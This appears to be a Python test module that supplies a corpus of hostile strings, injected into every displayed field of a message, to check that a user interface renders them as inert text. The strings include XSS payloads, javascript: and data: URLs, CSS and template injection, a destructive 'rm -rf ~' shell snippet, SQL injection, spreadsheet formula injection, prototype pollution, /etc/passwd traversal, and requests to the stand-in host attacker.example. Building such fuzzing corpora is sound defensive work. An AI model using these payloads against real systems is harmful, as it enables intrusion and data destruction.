"""Strings that attack: markup, script, style, templates, names of objects, directions, invisible and broken text.

Each string of `CORPUS` is text and nothing else: wherever it is shown it stands there letter by letter. It runs
nothing, fetches nothing, makes no element and changes no object. A script that should run after all would set
``window.pwned`` and call ``alert``; a request would go to ``attacker.example``.
"""

from collections.abc import Iterator
from typing import Any

PWNED = "window.pwned=1"
_HOST = "//attacker.example/x"
_GO = f"{PWNED};alert(1)"

MARKUP = {
    "image": f"<img src=x onerror={_GO}>",
    "script": f"<script>{_GO}</script>",
    "script end": f"</script><script>{_GO}</script>",
    "svg": f"<svg onload={_GO}><animate onbegin={_GO} attributeName=x></svg>",
    "out of an attribute": f'"><img src=x onerror={_GO}>',
    "out of a quoted attribute": f"'><img src=x onerror={_GO}>",
    "handler": f'" onmouseover="{_GO}" autofocus onfocus="{_GO}" x="',
    "frame": f'<iframe srcdoc="<script>parent.{PWNED}</script>" src="javascript:{_GO}"></iframe>',
    "object": f'<object data="{_HOST}"></object><embed src="{_HOST}">',
    "link": f'<a href="javascript:{_GO}" download>click</a>',
    "form": f'<form action="{_HOST}"><input name=attributes><button formaction="javascript:{_GO}">x</form>',
    "base": f'<base href="{_HOST}"><meta http-equiv="refresh" content="0;url={_HOST}">',
    "math": f"<math><mtext><table><mglyph><style><!--</style><img title='--><img src=x onerror={_GO}>'>",
    "template element": f"<template><img src=x onerror={_GO}></template><noscript><p title='</noscript><svg onload=x>",
    "comment": f"<!-- --><img src=x onerror={_GO}> <!--> -->",
    "cdata": f"<![CDATA[<img src=x onerror={_GO}>]]>",
    "body": f"</body></html><body onload={_GO}>",
    "closing tags": "</span></mark></td></table></div></section></div>",
    "custom element": f"<x-x is=script onclick={_GO}></x-x><details open ontoggle={_GO}>",
    "picture": f'<picture><source srcset="{_HOST}"><img src="{_HOST}"></picture><video poster="{_HOST}">',
    "entities": "&lt;img src=x onerror=alert(1)&gt; &amp;amp; &#60;b&#62; &#x3c;i&#x3e; &notanentity; &#0; &lt",
    "plain signs": "a < b > c & d \" e ' f ` g = h / i \\ j",
}
ADDRESSES = {
    "javascript": f"javascript:{_GO}",
    "javascript in pieces": f"java\tscript\n:{_GO}",
    "data": f"data:text/html,<script>{_GO}</script>",
    "protocol-relative": _HOST,
    "http": f"http:{_HOST}",
    "vbscript": f"vbscript:{_GO}",
    "file name": "../../../etc/passwd",
    "device name": "CON.json",
    "absolute": "/etc/passwd",
    "windows": "C:\\Windows\\win.ini",
    "stream": "a.labels.json::$DATA",
}
STYLE = {
    "background": f"red;background:url({_HOST})",
    "style end": f"</style><img src=x onerror={_GO}>",
    "import": f"}} @import url({_HOST}); * {{ display: none",
    "custom property": f"var(--x, url({_HOST}))",
    "content": f"\\3c img src=x\\3e ; content: url({_HOST})",
    "expression": f"expression({_GO})",
    "position": "red;position:fixed;inset:0;z-index:2147483647",
}
TEMPLATES = {
    "mustache": "{{constructor.constructor('alert(1)')()}} {{ 7*7 }} {% raw %}",
    "dollar": "${alert(1)} $& $1 $` $' $$ %s %(x)s {0} {quote} {label} {__class__} {count!r}",
    "vega": 'datum.x + 1; "]; [signal] \' + alert(1) + \' toString() data("source_0") datum["a"]',
    "vega signal": '{"signal": "alert(1)"} {"expr": "alert(1)"} {"href": "javascript:alert(1)", "url": "//x"}',
    "markdown": f"[x](javascript:{_GO}) ![x]({_HOST}) `code` **b** # h\n> q\n- l\n\n    pre\n| a | b |\n|--|--|",
    "mathematics": r"$$\href{javascript:alert(1)}{x}$$ $5 and $6 \(x\) \[y\] \begin{align}z\end{align} \unicode{x41}",
    "sql and shell": "'; DROP TABLE x; -- $(rm -rf ~) `id` | cat && true",
    "formula": '=HYPERLINK("http://attacker.example","x")',
    "formula with plus": "+1+cmd|' /C calc'!A0",
    "json": '{"__proto__": {"polluted": 1}, "constructor": {"prototype": {"polluted": 1}}}',
    "selector": '"] , [data-x="y\\',
}
NAMES = {
    name: name
    for name in (
        *("__proto__", "constructor", "prototype", "hasOwnProperty", "toString", "valueOf", "__defineGetter__", "then"),
        *("MathJax", "document", "location", "name", "attributes", "children", "innerHTML", "length", "undefined"),
        *("null", "NaN", "true", "0", "-1", "1e400"),
    )
} | {
    "clobbering": '<a id="MathJax"></a><img name="getElementById"><form id="document"><input id="attributes">',
    "id of a view": "ss-comparison-1-text",
    "polluting path": "__proto__.polluted",
}
# Direction: overrides that show letters in another order than they are stored, closed and left open.
DIRECTION = {
    "override": "user\u202egnp.exe",
    "embedding left open": "\u202aabc \u202bdef",
    "isolates": "\u2066a\u2067b\u2068c",
    "closed too often": "a\u2069\u2069\u202c\u202c\u202eb",
    "marks": "a\u200eb\u200fc\u061cd",
    "right to left": "שלום עולם, مرحبا بالعالم 123 (x)",
    "digits": "١٢٣ ۴۵۶ 789",
}
INVISIBLE = {
    "zero width": "a\u200bb\u200cc\u200dd\u2060e\ufefff",
    "soft hyphen": "a\xadb",
    "tags": "a\U000e0041\U000e0042b",
    "variation": "a\ufe0f\ufe0eb",
    "hangul filler": "a\u3164\u115f\u1160b",
    "blank braille": "a\u2800b",
    "escape": "\x1b[31mred\x1b[0m \x1b]8;;http://attacker.example\x07link\x1b]8;;\x07 \x1b[2J\x9b31m",
    "controls": "a\x01\x02\x07\x08\x0b\x0c\x0e\x1f\x7f\x80\x85\x9fb",
    "nul": "a\x00b",
    "line separators": "a\u2028b\u2029c",
    "lines": "a\nb\r\nc\rd\te",
    "private use": "a\ue000\uf8ff\U000f0000b",
    "not characters": "a\ufffe\uffff\U0001fffeb",
    "replacement": "a\ufffdb\ufffcc",
}
LETTERS = {
    "heaped": "Z" + "".join(chr(0x300 + i % 0x6F) for i in range(200)) + "algo",
    "family": "👩‍👩‍👧‍👦🏳️‍🌈👍🏽🇺🇦",
    "astral": "💩𝔘𐍈",
    "alike": "аdmin раypal Ꭺ ｆｕｌｌ ﬁ İ ß Å",
    "quotation marks": "“a” ‘b’ «c» „d“ ''e'' ``f``",
    "spaces": "a\u00a0b\u3000c\u2003d\u180ee",
    "one long word": "w" * 2_000,
    "long": "long words " * 300,
    "many tags": "<b>" * 300,
}
# Half a character: JavaScript and JSON can hold it, UTF-8 cannot. For what a page gets from the browser itself.
BROKEN = {"high half": "a\ud83d", "low half": "\udca9b", "halves": "\udca9\ud83d"}

CORPUS: dict[str, str] = MARKUP | ADDRESSES | STYLE | TEMPLATES | NAMES | DIRECTION | INVISIBLE | LETTERS
BIDI = "\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069"


def fields(node: Any, fixed: frozenset[str], path: tuple[Any, ...] = ()) -> Iterator[tuple[Any, ...]]:
    """Where the strings of a message stand that are shown; names in ``fixed`` are names of the protocol."""
    if isinstance(node, dict):
        for name, value in node.items():
            if name not in fixed:
                yield from fields(value, fixed, (*path, name))
    elif isinstance(node, list):
        for i, value in enumerate(node):
            yield from fields(value, fixed, (*path, i))
    elif isinstance(node, str):
        yield path


def attacked(node: Any, strings: Iterator[str], fixed: frozenset[str]) -> tuple[Any, dict[tuple[Any, ...], str]]:
    """The same message with the next hostile string in every place that is shown, and what was put where."""
    put = {path: next(strings) for path in fields(node, fixed)}

    def copied(node: Any, path: tuple[Any, ...] = ()) -> Any:
        if isinstance(node, dict):
            return {name: copied(value, (*path, name)) for name, value in node.items()}
        if isinstance(node, list):
            return [copied(value, (*path, i)) for i, value in enumerate(node)]
        return put.get(path, node)

    return copied(node), put
